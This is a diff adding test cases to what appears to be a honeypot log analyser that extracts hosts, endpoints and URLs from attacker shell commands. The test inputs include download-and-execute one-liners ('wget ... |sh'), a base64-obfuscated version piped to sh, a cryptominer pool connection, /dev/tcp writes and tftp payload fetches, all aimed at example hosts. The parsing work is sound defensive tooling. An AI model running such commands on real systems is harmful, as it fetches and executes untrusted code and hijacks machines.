@@ -7,6 +7,7 @@ from hypothesis import strategies as st
 from cowrie_assets.cowrie.artefacts import (
     MOST_OF_A_KIND,
     READ_CHARACTERS,
+    USED,
     Artefact,
     ArtefactKind,
     artefacts_of_command,
@@ -59,10 +60,33 @@ def test_hosts_that_something_is_fetched_from(command: str, hosts: list[str]) ->
         ("./bot 192.0.2.9:23; ./bot 192.0.2.9:99999; ./bot 127.0.0.1:80; v1.2.3.4.5:6", ["192.0.2.9:23"]),
         ("wget http://192.0.2.7:8080/a.sh; telnet 192.0.2.8 2323", ["192.0.2.8:2323"]),
         ("ssh root@192.0.2.1:22; nc -l 4444", []),
+        (
+            "xmrig -o pool.example.org:3333; ./m --url=b.example.org:80 -oc.example.org:81",
+            ["pool.example.org:3333", "b.example.org:80", "c.example.org:81"],
+        ),
+        ("./m --url tcp://d.example.org:82/; curl -o e.example.org:83 x", ["d.example.org:82"]),
     ],
 )
 def test_endpoints_that_are_connected_to(command: str, endpoints: list[str]) -> None:
     assert found(command, ArtefactKind.ENDPOINT) == endpoints
+
+
+@pytest.mark.parametrize(
+    ("command", "used"),
+    [
+        ("wget -qO- http://a.example.org/x|sh", ["http://a.example.org/x", "a.example.org"]),
+        ("echo d2dldCBodHRwOi8vYS5leGFtcGxlLm9yZy94 | base64 -d | sh", ["http://a.example.org/x", "a.example.org"]),
+        (
+            "curl -so out -x http://p.example.org/ --url http://a.example.org/x",
+            ["http://a.example.org/x", "a.example.org"],
+        ),
+        ("curl -A 'b http://a.example.org/' -H x --referer http://a.example.org/ b.example.org/x", ["b.example.org"]),
+        ("echo http://a.example.org/x nc 192.0.2.1 99 # wget http://a.example.org/y", []),
+        ("echo x > /dev/tcp/192.0.2.1/99; tftp -g -r a.sh 192.0.2.2", ["192.0.2.2", "192.0.2.1:99"]),
+    ],
+)
+def test_what_programs_are_told_to_use(command: str, used: list[str]) -> None:
+    assert [each.value for each in artefacts_of_command(command) if each.subtype == USED] == used
 
 
 def test_wallets_by_their_check_sums() -> None:
